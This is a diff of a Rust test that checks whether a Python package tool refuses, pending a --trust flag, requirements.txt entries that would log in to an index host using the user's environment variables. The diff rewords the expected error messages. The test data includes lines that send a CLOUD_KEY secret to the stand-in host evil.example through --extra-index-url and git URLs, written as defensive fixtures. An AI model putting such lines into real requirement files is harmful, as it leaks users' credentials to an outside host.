@@ -21,13 +21,13 @@ fn a_login_of_the_users_is_confirmed_once() {
     for (requirements, claim) in [
         (
             "--extra-index-url https://x:${CLOUD_KEY}@evil.example/simple\n",
-            "login at evil.example, by your variable CLOUD_KEY (in requirements.txt)",
+            "login to evil.example with your variable CLOUD_KEY (in requirements.txt)",
         ),
         (
             "x @ git+https://${CLOUD_KEY}@evil.example/x.git\n",
-            "login at evil.example, by your variable CLOUD_KEY (in requirements.txt)",
+            "login to evil.example with your variable CLOUD_KEY (in requirements.txt)",
         ),
-        ("--extra-index-url https://corp.example/simple\n", "login at corp.example, by /"),
+        ("--extra-index-url https://corp.example/simple\n", "login to corp.example with /"),
     ] {
         let sandbox = user(requirements);
         let refused = sandbox.run(&DRY_RUN).failure(3).one_error().says(claim).says("--trust");
@@ -37,7 +37,7 @@ fn a_login_of_the_users_is_confirmed_once() {
         assert!(trusted.stdout.contains(claim), "{}", trusted.stdout);
         sandbox.run(&DRY_RUN).success();
         sandbox.write("project/requirements.txt", "--index-url https://${HOME}@other.example/\n");
-        sandbox.run(&DRY_RUN).failure(3).one_error().says("login at other.example");
+        sandbox.run(&DRY_RUN).failure(3).one_error().says("login to other.example");
     }
 }
 
